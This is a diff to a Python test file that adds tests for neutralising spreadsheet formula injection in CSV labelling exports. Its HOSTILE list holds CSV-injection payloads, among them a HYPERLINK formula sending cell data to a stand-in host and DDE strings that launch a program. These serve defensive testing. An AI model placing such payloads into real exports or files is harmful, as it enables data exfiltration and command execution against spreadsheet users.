@@ -13,6 +13,7 @@ from sklearn.decomposition import PCA
 
 from evalcov import analyze
 from evalcov.export import export_for_labeling, query_id, write_batch
+from evalcov.safe_csv import restore_cell
 from evalcov.selection import allocate, farthest_first, near_duplicate_share
 
 INTENTS = [
@@ -210,10 +211,10 @@ TRICKY = [
 ]
 
 
-def _tricky_batch(report) -> pd.DataFrame:
-    batch = export_for_labeling(report, n=len(TRICKY), redact=False)
-    batch["text"] = TRICKY
-    batch["id"] = [query_id(t) for t in TRICKY]
+def _tricky_batch(report, texts: list[str] = TRICKY) -> pd.DataFrame:
+    batch = export_for_labeling(report, n=len(texts), redact=False)
+    batch["text"] = texts
+    batch["id"] = [query_id(t) for t in texts]
     return batch
 
 
@@ -227,6 +228,8 @@ def test_tabular_round_trip(report, tmp_path, fmt, name):
     if fmt == "csv":
         back = pd.read_csv(path, keep_default_na=False, encoding="utf-8")
         back["input_ids"] = back["input_ids"].map(json.loads)
+        # Formula-looking cells carry a neutralizing quote in the file; restore_cell undoes it.
+        back["text"] = back["text"].map(restore_cell)
     elif fmt == "jsonl":
         back = pd.read_json(path, lines=True, dtype=False)
     else:
@@ -323,3 +326,83 @@ def test_interrupted_by_a_crashing_writer(report, tmp_path, monkeypatch):
     with pytest.raises(KeyboardInterrupt):
         export_for_labeling(report, tmp_path / "b.csv", n=5)
     assert list(tmp_path.iterdir()) == []
+
+
+# ------------------------------------------------------------------- formula injection
+
+# Cells a spreadsheet would run (OWASP CSV injection), and look-alikes it would not.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click") cancel my plan',
+    "+1-555-0100 call me back",
+    "-2+3 what is this",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 after a tab",
+    "\r=1+1 after a carriage return",
+    "'=already quoted",
+    "what is =1+1 in the middle",
+]
+
+
+def _hostile_batch(report) -> pd.DataFrame:
+    batch = _tricky_batch(report, HOSTILE)
+    batch["cluster_label"] = "=cmd|' /C calc'!A0"
+    return batch
+
+
+def _spreadsheet_would_run(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_export_neutralizes_formulas_and_maps_back_to_query_ids(report, tmp_path):
+    batch = _hostile_batch(report)
+    write_batch(batch, tmp_path / "b.csv")
+    back = pd.read_csv(tmp_path / "b.csv", keep_default_na=False, dtype=str)
+    cells = back.to_numpy().ravel().tolist() + list(back.columns)
+    assert [c for c in cells if _spreadsheet_would_run(c)] == []
+    assert back["text"].tolist()[:6] == ["'" + t for t in HOSTILE[:6]]
+    assert back["text"].iloc[6] == "''=already quoted"
+    assert back["text"].iloc[7] == HOSTILE[7]  # no formula at the start: unchanged
+    assert (back["cluster_label"] == "'=cmd|' /C calc'!A0").all()
+    # Round trip: the neutralized text maps back to the original text and its query id.
+    restored = back["text"].map(restore_cell)
+    assert restored.tolist() == HOSTILE
+    assert [query_id(t) for t in restored] == back["id"].tolist() == batch["id"].tolist()
+    # Numbers are not formulas: a negative similarity stays a number.
+    assert back["similarity"].astype(float).tolist() == pytest.approx(batch["similarity"])
+
+
+def test_a_real_export_of_formula_queries_is_neutralized(report, tmp_path):
+    """The user-facing path: formulas typed into production traffic, analyzed, exported."""
+    q = report.queries
+    traffic = q[["text"]].copy()
+    uncovered = ~q["covered"].astype(bool)
+    traffic.loc[uncovered, "text"] = "=" + traffic.loc[uncovered, "text"]
+    evals = pd.DataFrame({"text": list(report.eval_dedup_.texts)})
+    hostile = analyze(traffic, evals, text="text", reducer=PCA(10, random_state=0))
+    batch = export_for_labeling(hostile, tmp_path / "b.csv", n=len(traffic), redact=False)
+    formulas = [t for t in batch["text"] if t.startswith("=")]
+    assert len(formulas) >= 10  # the returned frame keeps the exact text
+    back = pd.read_csv(tmp_path / "b.csv", keep_default_na=False, dtype=str)
+    assert back["text"].tolist() == [("'" + t if t.startswith("=") else t) for t in batch["text"]]
+    assert not back["text"].map(_spreadsheet_would_run).any()
+    assert [query_id(restore_cell(t)) for t in back["text"]] == batch["id"].tolist()
+
+
+def test_formula_neutralization_can_be_turned_off_and_other_formats_keep_exact_text(
+    report, tmp_path
+):
+    batch = _hostile_batch(report)
+    write_batch(batch, tmp_path / "raw.csv", neutralize_formulas=False)
+    raw = pd.read_csv(tmp_path / "raw.csv", keep_default_na=False, dtype=str)
+    assert raw["text"].tolist() == HOSTILE
+    write_batch(batch, tmp_path / "b.jsonl", format="jsonl")
+    lines = (tmp_path / "b.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["text"] for line in lines] == HOSTILE
+    write_batch(batch, tmp_path / "b.parquet", format="parquet")
+    assert pd.read_parquet(tmp_path / "b.parquet")["text"].tolist() == HOSTILE
+    write_batch(batch, tmp_path / "ls.json", format="label-studio")
+    tasks = json.loads((tmp_path / "ls.json").read_text(encoding="utf-8"))
+    assert [t["data"]["text"] for t in tasks] == HOSTILE
+    write_batch(batch, tmp_path / "ag.json", format="argilla")
+    records = json.loads((tmp_path / "ag.json").read_text(encoding="utf-8"))
+    assert [r["fields"]["text"] for r in records] == HOSTILE
